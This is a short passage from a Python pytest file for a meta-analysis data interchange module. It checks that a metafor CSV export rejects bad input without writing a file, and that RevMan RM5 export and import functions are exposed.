    with pytest.raises(InputError, match=pattern):
        export_metafor_csv(frame, tmp_path / "m.csv")
    assert not (tmp_path / "m.csv").exists()


def test_interchange_module_exposes_rm5():
    assert interchange.export_rm5 is export_rm5 and interchange.import_rm5 is import_rm5
    with pytest.raises(AttributeError):
        interchange.no_such_thing  # noqa: B018

